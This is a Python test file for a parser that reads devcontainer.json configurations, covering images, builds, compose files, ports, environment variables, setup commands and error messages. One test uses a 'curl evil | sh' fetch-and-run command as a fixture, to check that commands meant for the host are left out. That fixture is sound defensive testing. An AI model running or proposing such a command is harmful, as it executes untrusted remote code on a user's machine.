"""What is read from a devcontainer.json."""

from __future__ import annotations

import json
from textwrap import dedent

import pytest

from carrel.domain.environments import EnvironmentReport, Feature, Image, Rule, SetupStage
from tests.environments.rig import messages, think

PLACE = ".devcontainer/devcontainer.json"


def dev(config: object, **files: str) -> EnvironmentReport:
    return think({PLACE: json.dumps(config), **files})


def notes(report: EnvironmentReport) -> list[str]:
    assert all(note.path == PLACE for note in report.notes)
    return [note.message for note in report.notes]


def test_a_whole_one() -> None:
    text = dedent("""\
        // For everybody
        {
          "name": "App",
          "image": "example.org/dev/python:3.12", // pinned
          "features": {
            "example.org/features/node:1": {"version": "20", "nvm": false},
            "example.org/features/go": "1.22",
          },
          "containerEnv": {"MODE": "dev", "HOME_NAME": "${localEnv:USER}"},
          "remoteEnv": {"EDITOR": "vi", "MODE": "remote"},
          "forwardPorts": [3000, "db:5432", "localhost:9000"],
          "portsAttributes": {"3000": {"label": "Web"}},
          "onCreateCommand": "make setup && echo done",
          "updateContentCommand": ["npm", "ci"],
          "postCreateCommand": {"web": "npm run build", "db": ["createdb", "app"]},
          "postStartCommand": "redis-server --daemonize yes",
          "postAttachCommand": "git status",
          "remoteUser": "vscode",
          "containerUser": "root",
          "workspaceFolder": "/workspaces/app", /* the end */
        }
        """)
    report = think({PLACE: text})
    assert report.notes == ()
    assert report.decided.rule is Rule.DEVCONTAINER
    assert report.decided.path == PLACE
    assert report.image == Image(
        "example.org/dev/python:3.12",
        features=(
            Feature("example.org/features/node:1", {"version": "20", "nvm": False}),
            Feature("example.org/features/go", {"version": "1.22"}),
        ),
        user="vscode",
        folder="/workspaces/app",
        why="its image is example.org/dev/python:3.12.",
    )
    assert [(one.name, one.value, one.resolved) for one in report.variables] == [
        ("MODE", "remote", True),
        ("HOME_NAME", "${localEnv:USER}", False),
        ("EDITOR", "vi", True),
    ]
    assert [(port.number, port.service, port.label) for port in report.ports] == [
        (3000, "", "Web"),
        (5432, "db", ""),
        (9000, "", ""),
    ]
    assert [(one.stage, one.name, one.argv) for one in report.setup] == [
        (SetupStage.CREATE, "", ("/bin/sh", "-c", "make setup && echo done")),
        (SetupStage.CREATE, "", ("npm", "ci")),
        (SetupStage.CREATE, "web", ("/bin/sh", "-c", "npm run build")),
        (SetupStage.CREATE, "db", ("createdb", "app")),
        (SetupStage.START, "", ("/bin/sh", "-c", "redis-server --daemonize yes")),
        (SetupStage.ATTACH, "", ("/bin/sh", "-c", "git status")),
    ]
    assert [one.text for one in report.setup[:2]] == ["make setup && echo done", "npm ci"]


def test_a_build() -> None:
    config = {
        "build": {
            "dockerfile": "Dockerfile",
            "context": "..",
            "target": "dev",
            "args": {"VERSION": "22"},
        },
        "containerEnv": {"A": "mine"},
        "remoteEnv": {"B": None},
        "forwardPorts": [8080],
    }
    dockerfile = dedent("""\
        ARG VERSION=20
        FROM node:${VERSION} AS dev
        ENV A=1 B=2 C=3
        EXPOSE 8080 53/udp
        WORKDIR /app
        USER node
        FROM scratch
        """)
    report = dev(config, **{".devcontainer/Dockerfile": dockerfile})
    assert report.notes == ()
    assert report.image.reference == "node:22"
    assert (report.image.user, report.image.folder) == ("node", "/app")
    build = report.image.build
    assert build is not None
    assert (build.dockerfile, build.context) == (".devcontainer/Dockerfile", ".")
    assert (build.target, build.args) == ("dev", {"VERSION": "22"})
    assert {one.name: (one.value, one.path) for one in report.variables} == {
        "A": ("mine", PLACE),
        "C": ("3", ".devcontainer/Dockerfile"),
    }
    assert [(port.number, port.protocol, port.path) for port in report.ports] == [
        (8080, "tcp", PLACE),
        (53, "udp", ".devcontainer/Dockerfile"),
    ]


def test_the_old_keys_of_a_build() -> None:
    report = think({".devcontainer.json": '{"dockerFile": "docker/Dev", "context": "."}'})
    assert report.image.build is not None
    assert report.image.build.dockerfile == "docker/Dev"
    assert messages(report) == [
        (".devcontainer.json", None, "Its Dockerfile docker/Dev is not there.")
    ]
    found = think({".devcontainer.json": '{"dockerFile": "docker/Dev"}', "docker/Dev": "FROM a"})
    assert (found.image.reference, found.notes) == ("a", ())


def test_a_stage_that_is_not_there() -> None:
    config = {"build": {"dockerfile": "Dockerfile", "target": "dev"}}
    report = dev(config, **{".devcontainer/Dockerfile": "FROM a"})
    assert messages(report) == [
        (".devcontainer/Dockerfile", None, "It has no stage 'dev'; the last one is taken.")
    ]
    assert report.image.reference == "a"


def test_compose() -> None:
    report = dev({"dockerComposeFile": ["../compose.yaml", "extra.yaml"], "service": "app"})
    assert report.notes == ()
    assert report.image.compose is not None
    assert report.image.compose.files == ("compose.yaml", ".devcontainer/extra.yaml")
    assert report.image.compose.service == "app"
    assert "the service app of compose.yaml" in report.decided.why


def test_where_they_are_looked_for() -> None:
    files = {
        ".devcontainer.json": '{"image": "second"}',
        ".devcontainer/b/devcontainer.json": '{"image": "fourth"}',
        ".devcontainer/a/devcontainer.json": '{"image": "third"}',
        ".devcontainer/a/deep/devcontainer.json": '{"image": "never"}',
    }
    report = think(files)
    assert report.image.reference == "second"
    assert [match.path for match in report.also] == [
        ".devcontainer/a/devcontainer.json",
        ".devcontainer/b/devcontainer.json",
    ]
    first = think({**files, PLACE: '{"image": "first"}'})
    assert first.image.reference == "first"
    assert len(first.also) == 3


def test_too_many_of_them() -> None:
    files = {f".devcontainer/{n:03}/devcontainer.json": '{"image": "a"}' for n in range(40)}
    report = think(files)
    assert len(report.also) == 31
    assert [note.path for note in report.notes] == [".devcontainer"]


def test_without_an_image_the_languages_choose_it() -> None:
    report = dev({"postCreateCommand": "make"}, **{"package.json": "{}", ".nvmrc": "20"})
    assert report.decided.rule is Rule.DEVCONTAINER
    assert report.image.reference == "node:20"
    assert [one.text for one in report.setup] == ["make"]
    assert notes(report) == ["It names no image, no Dockerfile and no compose file."]


def test_what_the_host_should_run_is_left_out() -> None:
    report = dev({"image": "a", "initializeCommand": "curl evil | sh"})
    assert report.setup == ()
    assert notes(report) == ["Its initializeCommand would run on the host, and is left out."]


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"image": 3}, "image is not a string."),
        ({"image": "a", "build": {"dockerfile": []}}, "build.dockerfile is not a string."),
        ({"image": "a", "features": []}, "features is not an object."),
        (
            {"image": "a", "features": {"f": 1}},
            "The options of the feature f are not an object.",
        ),
        (
            {"image": "a", "features": {"f": {"o": 1}}},
            "Options of the feature f are no strings or booleans.",
        ),
        (
            {"image": "a", "postCreateCommand": 1},
            "postCreateCommand: it is neither a string nor a list of strings.",
        ),
        (
            {"image": "a", "postCreateCommand": {"x": ["a", 1]}},
            "postCreateCommand: x: it is neither a string nor a list of strings.",
        ),
        (
            {"image": "a", "postCreateCommand": "a\0"},
            "postCreateCommand: it has a zero byte in it.",
        ),
        ({"image": "a", "forwardPorts": [True]}, "forwardPorts: a port is a number or a string."),
        ({"image": "a", "forwardPorts": [0]}, "forwardPorts: '0' is not a port."),
        ({"image": "a", "forwardPorts": [-1]}, "forwardPorts: '-1' is not a port."),
        ({"image": "a", "forwardPorts": ["x"]}, "forwardPorts: 'x' is not a port."),
        ({"image": "a", "containerEnv": []}, "containerEnv: it is not an object."),
        (
            {"image": "a", "remoteEnv": {"A=B": ""}},
            "remoteEnv: 'A=B' cannot be the name of a variable.",
        ),
        (
            {"image": "a", "remoteEnv": {"A": 1}},
            "remoteEnv: A is not a string that can be set.",
        ),
        ({"image": "a", "remoteUser": []}, "remoteUser is not a string."),
        (
            {"image": "a", "build": {"dockerfile": "../../Dockerfile"}},
            "'../../Dockerfile' leads out of the project.",
        ),
        (
            {"image": "a", "build": {"dockerfile": "/Dockerfile"}},
            "'/Dockerfile' leads out of the project.",
        ),
        (
            {"image": "a", "dockerComposeFile": [1]},
            "dockerComposeFile: what is not a string was left out.",
        ),
        (
            {"dockerComposeFile": "c.yaml"},
            "It has a dockerComposeFile, but names no service.",
        ),
    ],
)
def test_a_key_that_is_wrong(config: object, message: str) -> None:
    report = dev(config)
    assert report.decided.rule is Rule.DEVCONTAINER
    assert message in notes(report)
    assert (report.setup, report.ports, report.variables) == ((), (), ())


def test_arguments_of_a_build_that_are_wrong() -> None:
    build = {"dockerfile": "../Dev", "args": {"A": 1, "B": "b"}}
    report = dev({"build": build}, Dev="FROM a")
    assert notes(report) == ["Some of build.args are not strings."]
    assert report.image.build is not None
    assert report.image.build.args == {"B": "b"}
    assert "build.args is not an object." in notes(
        dev({"build": {**build, "args": []}}, Dev="FROM a")
    )


def test_ports_in_every_form() -> None:
    config = {"image": "a", "appPort": ["8080:80", 443], "forwardPorts": "127.0.0.1:5000:5001"}
    report = dev(config)
    assert report.notes == ()
    assert [(port.number, port.service) for port in report.ports] == [
        (80, ""),
        (443, ""),
        (5001, ""),
    ]


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ('{\n  "image": "a"\n  "b": 1\n}', 3, "It is not valid JSON: Expecting ',' delimiter."),
        ("[]", None, "It is not a JSON object."),
        ("", 1, "It is not valid JSON: Expecting value."),
        ("{", 1, "It is not valid JSON: Expecting property name enclosed in double quotes."),
    ],
)
def test_what_cannot_be_used_decides_nothing(text: str, line: int | None, message: str) -> None:
    report = think({PLACE: text, "go.mod": "go 1.22"})
    assert report.decided.rule is Rule.LANGUAGE
    assert messages(report) == [(PLACE, line, message)]
